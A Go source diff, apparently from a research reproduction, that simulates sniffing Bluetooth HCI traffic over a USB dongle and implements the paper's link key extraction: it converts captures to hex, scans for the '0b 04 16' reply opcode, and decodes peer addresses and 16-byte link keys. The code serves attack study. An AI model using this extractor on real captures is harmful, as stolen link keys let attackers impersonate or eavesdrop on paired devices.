@@ -1,0 +1,195 @@
+// Package usbsniff models HCI data leakage through the USB physical
+// transport between a PC host stack and a USB Bluetooth dongle, the
+// Windows-side variant of the paper's link key extraction attack
+// (§IV-B, §VI-B1). A Sniffer taps the HCI transport the way a bus
+// analyzer such as "Free USB Analyzer" or an FTS4USB probe would: it
+// captures raw URB traffic as a binary stream, including idle NULL
+// transfers. The package also reimplements the paper's helper tooling: a
+// binary-to-hex-ASCII converter and the opcode-pattern scan ("0b 04 16")
+// that locates HCI_Link_Key_Request_Reply payloads in the converted dump.
+package usbsniff
+
+import (
+	"bytes"
+	"encoding/binary"
+	"fmt"
+	"strings"
+	"time"
+
+	"repro/internal/bt"
+	"repro/internal/hci"
+)
+
+// Endpoint identifiers in the standard USB HCI (H2) mapping.
+const (
+	// EndpointControl carries HCI commands (host to controller).
+	EndpointControl = 0x00
+	// EndpointInterrupt carries HCI events (controller to host).
+	EndpointInterrupt = 0x81
+	// EndpointBulkOut/In carry ACL data.
+	EndpointBulkOut = 0x02
+	EndpointBulkIn  = 0x82
+)
+
+// urbMagic starts every captured transfer record.
+var urbMagic = [4]byte{'U', 'R', 'B', '0'}
+
+// URB is one captured USB transfer.
+type URB struct {
+	Endpoint uint8
+	// Payload is the HCI packet body in H2 framing: unlike UART (H4),
+	// USB transport carries no packet-type indicator octet — commands are
+	// identified by the control endpoint, so the capture starts directly
+	// with the opcode. This is why the paper searches for "0b 04 16"
+	// rather than "01 0b 04 16".
+	Payload []byte
+}
+
+// Sniffer is an hci.Tap capturing transport traffic as a raw URB stream.
+type Sniffer struct {
+	buf bytes.Buffer
+	// NoisePeriod inserts an empty interrupt poll record every N packets,
+	// mimicking the "lots of HCI and NULL data" the paper observes in raw
+	// USB dumps. Zero disables noise.
+	NoisePeriod int
+
+	packets int
+}
+
+// NewSniffer returns a sniffer that inserts a NULL poll after every
+// packet, like a real interrupt-endpoint capture.
+func NewSniffer() *Sniffer { return &Sniffer{NoisePeriod: 1} }
+
+// Observe implements hci.Tap.
+func (s *Sniffer) Observe(_ time.Duration, dir hci.Direction, wire []byte) {
+	if len(wire) < 1 {
+		return
+	}
+	var ep uint8
+	switch hci.PacketType(wire[0]) {
+	case hci.PTCommand:
+		ep = EndpointControl
+	case hci.PTEvent:
+		ep = EndpointInterrupt
+	case hci.PTACLData:
+		if dir == hci.DirHostToController {
+			ep = EndpointBulkOut
+		} else {
+			ep = EndpointBulkIn
+		}
+	default:
+		return
+	}
+	s.writeURB(URB{Endpoint: ep, Payload: wire[1:]})
+	s.packets++
+	if s.NoisePeriod > 0 && s.packets%s.NoisePeriod == 0 {
+		s.writeURB(URB{Endpoint: EndpointInterrupt}) // idle NULL poll
+	}
+}
+
+func (s *Sniffer) writeURB(u URB) {
+	s.buf.Write(urbMagic[:])
+	s.buf.WriteByte(u.Endpoint)
+	var ln [2]byte
+	binary.LittleEndian.PutUint16(ln[:], uint16(len(u.Payload)))
+	s.buf.Write(ln[:])
+	s.buf.Write(u.Payload)
+}
+
+// Raw returns the captured binary stream.
+func (s *Sniffer) Raw() []byte { return append([]byte(nil), s.buf.Bytes()...) }
+
+// Reset discards the capture.
+func (s *Sniffer) Reset() { s.buf.Reset(); s.packets = 0 }
+
+// ParseURBs decodes a raw capture back into transfer records.
+func ParseURBs(raw []byte) ([]URB, error) {
+	var out []URB
+	for off := 0; off < len(raw); {
+		if off+7 > len(raw) {
+			return out, fmt.Errorf("usbsniff: truncated URB header at offset %d", off)
+		}
+		if !bytes.Equal(raw[off:off+4], urbMagic[:]) {
+			return out, fmt.Errorf("usbsniff: bad URB magic at offset %d", off)
+		}
+		ep := raw[off+4]
+		ln := int(binary.LittleEndian.Uint16(raw[off+5 : off+7]))
+		off += 7
+		if off+ln > len(raw) {
+			return out, fmt.Errorf("usbsniff: truncated URB payload at offset %d", off)
+		}
+		out = append(out, URB{Endpoint: ep, Payload: append([]byte(nil), raw[off:off+ln]...)})
+		off += ln
+	}
+	return out, nil
+}
+
+// BinaryToHex converts a binary capture to the space-separated lowercase
+// hex ASCII form the paper's converter tool produces [27].
+func BinaryToHex(data []byte) string {
+	var b strings.Builder
+	b.Grow(len(data) * 3)
+	for i, c := range data {
+		if i > 0 {
+			b.WriteByte(' ')
+		}
+		fmt.Fprintf(&b, "%02x", c)
+	}
+	return b.String()
+}
+
+// ExtractedKey is one link key recovered from a USB capture.
+type ExtractedKey struct {
+	// HexOffset is the byte offset of the opcode pattern within the hex
+	// ASCII dump.
+	HexOffset int
+	Peer      bt.BDADDR
+	Key       bt.LinkKey
+}
+
+// linkKeyReplyPattern is the hex signature of HCI_Link_Key_Request_Reply:
+// opcode 0x040B little-endian followed by the 22-byte parameter length.
+const linkKeyReplyPattern = "0b 04 16"
+
+// ExtractLinkKeys runs the paper's extraction procedure: convert the raw
+// binary stream to hex ASCII, scan for the "0b 04 16" opcode pattern, and
+// decode the six address bytes and sixteen key bytes that follow,
+// reversing the wire order to present the key big-endian (Fig. 11a).
+func ExtractLinkKeys(raw []byte) []ExtractedKey {
+	hexDump := BinaryToHex(raw)
+	var out []ExtractedKey
+	for idx := 0; ; {
+		rel := strings.Index(hexDump[idx:], linkKeyReplyPattern)
+		if rel < 0 {
+			return out
+		}
+		pos := idx + rel
+		idx = pos + 1
+		// Pattern must be token-aligned (offset divisible by 3).
+		if pos%3 != 0 {
+			continue
+		}
+		fields := strings.Fields(hexDump[pos:])
+		if len(fields) < 3+6+16 {
+			continue
+		}
+		var wire [22]byte
+		ok := true
+		for i := 0; i < 22; i++ {
+			if _, err := fmt.Sscanf(fields[3+i], "%02x", &wire[i]); err != nil {
+				ok = false
+				break
+			}
+		}
+		if !ok {
+			continue
+		}
+		var le [6]byte
+		copy(le[:], wire[:6])
+		var key bt.LinkKey
+		for i := 0; i < 16; i++ {
+			key[i] = wire[6+15-i]
+		}
+		out = append(out, ExtractedKey{HexOffset: pos, Peer: bt.BDADDRFromLittleEndian(le), Key: key})
+	}
+}
